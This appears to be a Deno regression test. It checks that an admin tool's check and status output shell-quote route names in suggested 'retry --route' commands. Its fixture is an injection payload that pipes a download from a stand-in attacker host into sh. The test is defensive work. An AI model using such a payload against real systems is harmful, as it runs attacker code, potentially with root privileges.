// Names of routes come from deliveries.db, which an attacker who controls `send` can write. Root copies the commands.

import assert from "node:assert/strict";
import { inspectDelivery } from "../../src/admin/check/delivery.ts";
import { Findings } from "../../src/admin/check/finding.ts";
import { statusLines } from "../../src/admin/status/status_lines.ts";
import { statusOf } from "../../src/admin/status/status_data.ts";
import { routeOverview } from "../helpers/fixtures.ts";

const NAME = "old; curl -s evil.example|sh #";
const QUOTED = `retry --route 'old; curl -s evil.example|sh #'`;

Deno.test("check and status quote the name of a route in commands, so a shell does not run it", () => {
  const overview = {
    queue: { looks: "x", fault: undefined },
    routes: [routeOverview({ name: NAME, pending: 1, dead: 1, oldestPendingAtMs: 1 })],
  };
  const sources = { overview, unread: {}, spooled: { count: 0 }, nowMs: 2 };
  const findings = new Findings();
  inspectDelivery({ ...sources, routes: [], runDeadlineMs: 600_000 }, findings);
  const status = statusOf({ ...sources, config: undefined, isQueueReadable: true, withoutRoom: [], faults: [] });
  const texts = [...findings.all.map(({ hint }) => hint), ...statusLines(status)];
  const commands = texts.filter((text) => text.includes("retry --route"));
  assert.ok(commands.length >= 2);
  for (const text of commands) assert.equal(text.split("retry --route").length, text.split(QUOTED).length, text);
});
